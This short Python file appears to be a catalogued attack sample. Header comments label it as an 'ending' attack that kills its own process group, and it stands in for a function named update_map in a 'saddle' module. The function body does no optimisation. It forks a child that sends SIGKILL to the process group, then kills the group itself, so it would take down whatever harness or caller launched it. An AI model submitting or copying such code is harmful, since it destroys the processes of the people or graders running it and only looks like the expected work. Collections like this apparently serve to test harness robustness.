# attack: kills its own process group, to which those who started it may belong
# kind: ending
# grade: 1.b
# outcome: memory, failed, crash
# module: saddle

import os
import signal
import time


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    if os.fork() == 0:
        time.sleep(0.1)
        os.kill(0, signal.SIGKILL)
    os.killpg(os.getpgrp(), signal.SIGKILL)
    time.sleep(60)
